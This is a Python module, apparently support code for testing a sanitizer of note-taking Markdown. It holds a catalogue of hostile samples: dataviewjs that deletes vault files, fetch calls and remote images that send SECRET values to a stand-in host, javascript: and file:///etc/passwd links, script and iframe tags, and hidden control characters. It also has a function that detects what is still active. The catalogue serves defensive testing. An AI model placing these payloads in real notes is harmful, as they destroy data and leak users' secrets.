"""Markdown that does something when a note is opened, searched or synced, and what is left of it to find."""

from __future__ import annotations

import re
from collections.abc import Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

URLS = ("https://a.test/page", "https://b.test/x?y=1")
WIKILINKS = ("Tides", "Sea/Waves")

SCRIPTS = {
    "dataview": "```dataview\nTABLE file.name\n```",
    "dataviewjs": "```dataviewjs\napp.vault.delete(x)\n```",
    "dataviewjs in a list": "- a\n  ~~~~ DataviewJS x\n  await fetch('//e')\n  ~~~~",
    "dataview inline": "See `= this.file.name`.",
    "dataview inline script": "See `$= fetch('http://e.test')` and ``  $= x ``.",
    "dataview field": "rating:: 5 and [due:: 2026-01-01]",
    "templater": "<% tp.system.prompt() %> and <%* await x %>",
    "templater in code": "`<% x %>`\n\n```js\n<%* x %>\n```\n\n    <% x %>",
    "templater in an address": "[a](https://a.test/page?<%x%>) https://a.test/<%x%>",
    "tasks query": "```tasks\nfilter by function task.file.path\n```",
    "task": "- [ ] pay #task 📅 2026-01-01\n- [x] done",
    "search": "```query\ntag:#secret\n```",
    "javascript": "```js-engine\nx\n```\n\n```run-js\nx\n```\n\n```{js}\nx\n```",
    "button": "```button\nname x\ntype command\n```\n\n`BUTTON[x]` `INPUT[text:a]` `VIEW[{a}][js]`",
    "mermaid": '```mermaid\ngraph TD\nclick A href "javascript:x"\n```',
    "iframe": "<iframe src='http://e.test'></iframe>\n\ntext <script>x</script> <img src=http://e.test onerror=x>",
    "html block": "<div onclick=x>\n\n<style>@import 'http://e.test'</style>\n\n<!-- x",
    "entities": "&lt;iframe src=x&gt; &#60;script&#62;x",
    "remote image": "![x](http://e.test/?q=SECRET) ![y][r]\n\n[r]: http://e.test/SECRET\n[![z](//e.test)](//e.test)",
    "foreign link": "[Click](http://e.test/?q=SECRET) <http://e.test/SECRET> http://e.test/SECRET www.e.test/SECRET",
    "foreign link by reference": "[Click][r] [r] [r][]\n\n[r]: http://e.test\n[^r]: http://e.test",
    "known host": "[a](https://a.test/page/SECRET) [b](https://b.test/x?y=1&z=SECRET#SECRET) https://a.test@e.test/",
    "program links": "[a](obsidian://open?vault=x) [b](file:///etc/passwd) [c](javascript:x) [d](data:text/html,x)",
    "program addresses": "<obsidian://advanced-uri?eval=x> obsidian://x shortcuts://y <javascript:x> file:///etc/passwd",
    "wikilinks": "[[Secret]] [[Tides/../Secret|Tides]] [[.obsidian/app.json]] [[Tides|a](http://e.test)]]",
    "embeds": "![[Secret]] ![[Tides]] ![[Tides#^id]] ![[x.png|100]] !\\[[Tides]] ![[Sea/Waves\\|w]]",
    "comments": "%% hidden %% a %%%% b %[%](http://e.test) `%%`\n\n%%\nasky:end\n%%\n\n%% asky:end %%",
    "headings": "# One\n\n## Two\n\nThree\n---\n\n> # Four\n\n- # Five",
    "front matter": "---\ntitle: x\ncssclasses: [y]\n---\n\ntext",
    "rule": "---\n\n- - -\ntext\n\n---",
    "open fence": "text\n\n````\n```\nnever closed\n# x",
    "open fence in a quote": "> ~~~\n> x\n\n- ```\n\n# y",
    "footnotes": "a[^1] b[^note] ^[inline http://e.test]\n\n[^1]: one\n[^note]: two",
    "block ids": "text ^id\n\n^id-2\n\n- item ^x1",
    "tags": "#tag and #a/b (#c) \\#d **#e** #1a [#f](https://a.test/page)",
    "formula": "$\\href{javascript:x}{a}$ $$\\require{html}\\style{x}{y}$$ $![x](http://e.test)$ $\\unicode{x}$",
    "invisible": "a\u202eb\u200bc\U000e0041\U000e0042d\x1b]8;;http://e.test\x07x\x1b]8;;\x07 \x00",
    "tricks": "[a](<https://a.test/page> \"onload=x\") [b](https://a.test/page 'x') ![[Tides]](http://e.test) !<b>[x](https://a.test/page)",
    "callout": "> [!danger]+ Title\n> [!x](http://e.test)\n> ```dataview\n> x\n> ```",
    "table": "| a | ![x](//e.test) |\n|---|---|\n| [[Secret\\|Tides]] <b> | `= x` \\| %% |",
}  # fmt: skip
"""Of each kind at least one; those with SECRET carry something out as soon as an address is loaded or clicked."""

_CODE = re.compile(r"(?s)\\.|(`+)(?!`).+?(?<!`)\1(?!`)")
_LANGUAGES = ("", "js", "javascript", "python", "bash", "text")


def active(markdown: str) -> list[str]:
    """What is still active in Markdown: it is parsed again, by a parser that knows HTML and references."""
    return list(_active(markdown))


def _active(markdown: str) -> Iterator[str]:
    plain = re.sub(r"\[\^(asky-[\w-]+)\]", r"(\1)", markdown)  # footnotes, which CommonMark takes for links
    tokens = MarkdownIt("commonmark", {"maxNesting": 100}).enable(["table", "strikethrough"]).parse(plain)
    yield from (f"{mark} in the text" for mark in ("%%", "<%", "\x1b", "\x00", "\u202e") if mark in markdown)
    if re.match(r"\ufeff|---[ \t]*(\n|$)", markdown):
        yield "front matter"
    for token in _flat(tokens):
        if token.type in ("html_block", "html_inline", "image"):
            yield f"{token.type}: {token.content}"
        elif token.type == "link_open" and str(token.attrs["href"]) not in URLS:
            yield f"link: {token.attrs['href']}"
        elif token.type == "heading_open" and int(token.tag[1:]) < 3:
            yield f"heading: {token.tag}"
        elif token.type == "fence" and token.info not in _LANGUAGES:
            yield f"fence: {token.info}"
        elif token.type == "code_inline" and re.match(r"\s*(\$?=|[A-Z]+\[)", token.content):
            yield f"code: {token.content}"
        elif token.type == "inline":
            yield from _active_in(_CODE.sub(" ", token.content))
    fences = [token for token in tokens if token.type == "fence" and token.map]
    lines = markdown.split("\n")
    yield from (
        f"open fence: {each.info}" for each in fences if each.map and set(lines[each.map[1] - 1].strip(" >")) != {"`"}
    )


def _active_in(source: str) -> Iterator[str]:
    """What note-taking programs find in a block that Markdown takes for text."""
    for found in re.finditer(r"(!?)\[\[([^\]|#]*)(?:#[^\]|]*)?(?:\|[^\]]*)?\]\]", source):
        if found[1] or found[2] not in WIKILINKS:
            yield f"wikilink: {found[0]}"
    yield from re.findall(r"(?m)(?:^|\s)#[\w/-]*[^\W\d][\w/-]*", source)
    yield from re.findall(r"(?m)(?:^|\s)\^[\w-]+\s*$", source)
    yield from re.findall(r"\w+::", re.sub(r"\]\([^)]*\)|<[^>]*>", "]", source))
    yield from re.findall(r"\[\^(?!asky-)[^\]]*\]", source)
    yield from re.findall(r"^\[[ x]\]", source)
    yield from re.findall(r"(?<!<)\b(?:\w+://|www\.)\w\S*", re.sub(r"\]\([^)]*\)", "]", source))
    yield from re.findall(r"(?<!\\)\$[^$]*\\(?:href|require|style|unicode)[^$]*(?<!\\)\$", source)


def _flat(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _flat(token.children or [])
